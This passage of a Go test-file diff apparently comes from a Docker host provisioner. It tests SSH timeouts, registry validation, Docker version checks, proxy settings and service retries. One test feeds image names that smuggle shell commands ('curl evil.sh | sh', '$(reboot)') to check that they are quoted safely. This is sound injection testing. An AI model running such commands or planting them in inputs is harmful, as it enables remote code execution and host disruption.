+	_, err := SSHCommandWithTimeout(sshCmder, "sudo rpm-ostree upgrade", 10*time.Millisecond)
+
+	assert.Equal(t, ErrSSHCommandTimeout{Command: "sudo rpm-ostree upgrade", Timeout: 10 * time.Millisecond}, err)
+	assert.EqualError(t, err, `SSH command "sudo rpm-ostree upgrade" did not complete within 10ms`)
+}
+
+func TestSSHCommandWithTimeoutCompletes(t *testing.T) {
+	output, err := SSHCommandWithTimeout(&recordingSSHCommander{}, "hostname", time.Second)
+
+	assert.NoError(t, err)
+	assert.Empty(t, output)
+}
+
+func TestSystemdServiceDoesNotRetryTimeout(t *testing.T) {
+	defer func(timeout time.Duration) { ServiceCommandTimeout = timeout }(ServiceCommandTimeout)
+	ServiceCommandTimeout = 10 * time.Millisecond
+
+	sshCmder := &blockingSSHCommander{release: make(chan struct{})}
+	defer close(sshCmder.release)
+	p := NewSystemdProvisioner("", &fakedriver.Driver{})
+	p.SSHCommander = sshCmder
+
+	err := p.Service("docker", serviceaction.Stop)
+
+	assert.IsType(t, ErrSSHCommandTimeout{}, err)
+	assert.Equal(t, int32(1), atomic.LoadInt32(&sshCmder.calls))
+}
+
+func TestValidateInsecureRegistries(t *testing.T) {
+	assert.NoError(t, validateInsecureRegistries([]string{"10.0.0.0/8", "registry.local:5000", "192.168.1.10:5000", "registry.local"}))
+
+	err := validateInsecureRegistries([]string{"10.0.0.0/8", "10.0.0.0/8extra"})
+	assert.EqualError(t, err, `invalid insecure registry "10.0.0.0/8extra": expected a CIDR or host:port`)
+
+	for _, registry := range []string{"registry.local:port", "registry.local:70000", "http://registry.local"} {
+		assert.Error(t, validateInsecureRegistries([]string{registry}), registry)
+	}
+}
+
+func TestConfigureClientBundle(t *testing.T) {
+	authOptions, cleanup := newTestAuthOptions(t)
+	defer cleanup()
+
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	p.AuthOptions = authOptions
+	p.SetDryRun(true)
+
+	bundle, err := ConfigureClientBundle(p)
+
+	assert.NoError(t, err)
+	for _, bundlePath := range []string{bundle.CaCertPath, bundle.ClientCertPath, bundle.ClientKeyPath} {
+		assert.NotEmpty(t, bundlePath)
+		assert.Equal(t, authOptions.StorePath, filepath.Dir(bundlePath))
+		_, err := os.Stat(bundlePath)
+		assert.NoError(t, err)
+	}
+	assert.Equal(t, authOptions.ServerCertPath, bundle.ServerCertPath)
+}
+
+func TestConfigureAuthInvalidInsecureRegistry(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	p.EngineOptions = engine.Options{InsecureRegistry: []string{"10.0.0.0/8extra"}}
+	p.SetDryRun(true)
+
+	err := ConfigureAuth(p)
+
+	assert.EqualError(t, err, `invalid insecure registry "10.0.0.0/8extra": expected a CIDR or host:port`)
+	assert.Empty(t, p.SSHCommander.(*DryRunSSHCommander).Commands)
+}
+
+func TestGetDockerVersion(t *testing.T) {
+	cases := []struct {
+		output   string
+		expected string
+	}{
+		{"Docker version 1.10.3, build 20f81dd\n", "1.10.3"},
+		{"Docker version 1.11.0-rc2, build 3b7a9e9\n", "1.11.0-rc2"},
+		{"Docker version 17.06.0-ce-rc1, build 7f8486a\n", "17.06.0-ce-rc1"},
+	}
+
+	for _, c := range cases {
+		p := NewUbuntuSystemdProvisioner(&fakedriver.Driver{}).(*UbuntuSystemdProvisioner)
+		p.SSHCommander = &provisiontest.FakeSSHCommander{
+			Responses: map[string]string{"docker --version": c.output},
+		}
+
+		version, err := p.GetDockerVersion()
+
+		assert.NoError(t, err)
+		assert.Equal(t, c.expected, version)
+	}
+}
+
+func TestCompareDockerVersions(t *testing.T) {
+	assert.Equal(t, -1, compareDockerVersions("1.9.1", "1.12.0"))
+	assert.Equal(t, 0, compareDockerVersions("1.12.0-rc2", "1.12"))
+	assert.Equal(t, 1, compareDockerVersions("17.03.0-ce", "1.12.0"))
+}
+
+func TestCheckMinDockerVersion(t *testing.T) {
+	p := NewRancherProvisioner(&fakedriver.Driver{}).(*RancherProvisioner)
+	// the host came back from its upgrade with the Docker it had
+	p.SSHCommander = &provisiontest.FakeSSHCommander{
+		Responses: map[string]string{"docker --version": "Docker version 1.9.1, build a34a1d5\n"},
+	}
+
+	err := CheckMinDockerVersion(p, "1.12.0")
+
+	assert.EqualError(t, err, "Docker 1.9.1 is older than the required 1.12.0")
+	assert.NoError(t, CheckMinDockerVersion(p, "1.9.0"))
+	assert.NoError(t, CheckMinDockerVersion(p, ""))
+}
+
+func TestCheckDockerUpgradeDockerUnchanged(t *testing.T) {
+	p := NewRancherProvisioner(&fakedriver.Driver{}).(*RancherProvisioner)
+	// the reboot only brought in a new kernel
+	p.SSHCommander = &provisiontest.FakeSSHCommander{
+		Responses: map[string]string{"docker --version": "Docker version 1.12.1, build 23cf638\n"},
+	}
+
+	err := CheckDockerUpgrade(p, "1.12.1", "1.12.0")
+
+	assert.NoError(t, err)
+	assert.Contains(t, log.History(), "Docker unchanged at 1.12.1, only the rest of the host was upgraded")
+}
+
+func TestCheckDockerUpgrade(t *testing.T) {
+	p := NewRancherProvisioner(&fakedriver.Driver{}).(*RancherProvisioner)
+	p.SSHCommander = &provisiontest.FakeSSHCommander{
+		Responses: map[string]string{"docker --version": "Docker version 1.12.1, build 23cf638\n"},
+	}
+
+	err := CheckDockerUpgrade(p, "1.11.2", "1.13.0")
+
+	assert.EqualError(t, err, "Docker 1.12.1 is older than the required 1.13.0")
+	assert.Contains(t, log.History(), "Docker upgraded from 1.11.2 to 1.12.1")
+}
+
+func TestGetDockerVersionUnparsable(t *testing.T) {
+	p := NewUbuntuSystemdProvisioner(&fakedriver.Driver{}).(*UbuntuSystemdProvisioner)
+	p.SSHCommander = &provisiontest.FakeSSHCommander{
+		Responses: map[string]string{"docker --version": "bash: docker: command not found\n"},
+	}
+
+	_, err := p.GetDockerVersion()
+
+	assert.EqualError(t, err, `unable to parse the Docker version from "bash: docker: command not found"`)
+}
+
+func TestAddMachineToNoProxy(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{})
+	p.EngineOptions = engine.Options{
+		Env:     []string{"HTTP_PROXY=http://proxy:3128", "NO_PROXY=example.com,192.168.99.100"},
+		NoProxy: []string{"10.0.0.0/8"},
+	}
+
+	addMachineToNoProxy(p, "192.168.99.100")
+
+	assert.Equal(t, []string{
+		"HTTP_PROXY=http://proxy:3128",
+		"NO_PROXY=example.com,192.168.99.100,10.0.0.0/8",
+	}, p.EngineOptions.Env)
+}
+
+func TestMergeNoProxy(t *testing.T) {
+	entries := []string{"192.168.99.100", "localhost"}
+
+	assert.Equal(t, []string{"FOO=bar"}, mergeNoProxy([]string{"FOO=bar"}, entries))
+	assert.Equal(t, []string{"https_proxy=http://proxy:3128", "NO_PROXY=192.168.99.100,localhost"},
+		mergeNoProxy([]string{"https_proxy=http://proxy:3128"}, entries))
+	assert.Equal(t, []string{"HTTP_PROXY=http://proxy:3128", "no_proxy=localhost,192.168.99.100", "NO_PROXY=192.168.99.100,localhost"},
+		mergeNoProxy([]string{"HTTP_PROXY=http://proxy:3128", "no_proxy=localhost", "NO_PROXY="}, entries))
+}
+
+func TestPreloadImages(t *testing.T) {
+	sshCmder := &recordingSSHCommander{
+		errs: map[string]error{"busybox": errors.New("manifest unknown")},
+	}
+
+	preloadImages(sshCmder, []string{"busybox:latest", "nginx:1.9", "redis", "redis; curl evil.sh | sh", "it's$(reboot)"})
+
+	assert.Equal(t, []string{
+		"sudo docker pull 'busybox:latest'",
+		"sudo docker pull 'nginx:1.9'",
+		"sudo docker pull 'redis'",
+		"sudo docker pull 'redis; curl evil.sh | sh'",
+		`sudo docker pull 'it'\''s$(reboot)'`,
+	}, sshCmder.commands)
+}
+
+// sequenceSSHCommander records every command it is asked to run, failing the
+// nth of them with errs[n] when set.
+type sequenceSSHCommander struct {
+	outputs  []string
+	errs     []error
+	commands []string
+}
+
+func (sshCmder *sequenceSSHCommander) SSHCommand(args string) (string, error) {
+	sshCmder.commands = append(sshCmder.commands, args)
+	n := len(sshCmder.commands) - 1
+
+	output := ""
+	if n < len(sshCmder.outputs) {
+		output = sshCmder.outputs[n]
+	}
+	if n < len(sshCmder.errs) {
+		return output, sshCmder.errs[n]
+	}
+	return output, nil
+}
+
+func TestServiceRestartReconnects(t *testing.T) {
+	sshCmder := &sequenceSSHCommander{
+		errs: []error{errors.New("Something went wrong running an SSH command!\ncommand : sudo service docker restart\nerr     : read tcp 192.168.99.1:52000->192.168.99.100:22: read: connection reset by peer\noutput  : \n")},
+	}
+	p := NewUbuntuProvisioner(&fakedriver.Driver{}).(*UbuntuProvisioner)
+	p.SSHCommander = sshCmder
+
+	err := p.Service("docker", serviceaction.Restart)
+
+	assert.NoError(t, err)
+	assert.Equal(t, []string{"sudo service docker restart", "sudo service docker restart"}, sshCmder.commands)
+}
+
+func TestServiceDoesNotRetryCommandFailure(t *testing.T) {
+	sshCmder := &sequenceSSHCommander{
+		errs: []error{errors.New("exit status 1")},
+	}
+	p := NewUbuntuProvisioner(&fakedriver.Driver{}).(*UbuntuProvisioner)
+	p.SSHCommander = sshCmder
+
+	err := p.Service("docker", serviceaction.Restart)
+
+	assert.EqualError(t, err, "exit status 1")
+	assert.Equal(t, []string{"sudo service docker restart"}, sshCmder.commands)
+}
+
+func TestServiceStopDoesNotReconnect(t *testing.T) {
+	sshCmder := &sequenceSSHCommander{
+		errs: []error{errors.New("write: broken pipe")},
+	}
+	p := NewUbuntuProvisioner(&fakedriver.Driver{}).(*UbuntuProvisioner)
+	p.SSHCommander = sshCmder
+
+	err := p.Service("docker", serviceaction.Stop)
+
+	assert.EqualError(t, err, "write: broken pipe")
+	assert.Len(t, sshCmder.commands, 1)
+}
+
+func TestDetectSelinux(t *testing.T) {
+	cases := []struct {
+		getenforce    string
+		engineOptions engine.Options
+		expected      bool
+	}{
+		{"Enforcing\n", engine.Options{}, true},
+		{"Permissive\n", engine.Options{}, false},
+		{"Enforcing\n", engine.Options{SkipSelinuxDetection: true}, false},
+		{"Enforcing\n", engine.Options{ArbitraryFlags: []string{"selinux-enabled"}}, false},
+	}
+
+	for _, c := range cases {
+		sshCmder := &provisiontest.FakeSSHCommander{
+			Responses: map[string]string{"getenforce": c.getenforce},
+		}
+
+		detectSelinux(sshCmder, &c.engineOptions)
+
+		assert.Equal(t, c.expected, c.engineOptions.SelinuxEnabled)
+	}
+}
+
+func TestDetectSelinuxAddsDaemonFlag(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{})
+	p.SSHCommander = &provisiontest.FakeSSHCommander{
+		Responses: map[string]string{"getenforce": "Enforcing\n"},
+	}
+	p.EngineOptions = engine.Options{StorageDriver: "overlay"}
+
+	detectSelinux(p, &p.EngineOptions)
+	dockerCfg, err := p.GenerateDockerOptions(engine.DefaultPort)
+
+	assert.NoError(t, err)
+	assert.Contains(t, dockerCfg.EngineOptions, " --storage-driver overlay --selinux-enabled ")
+}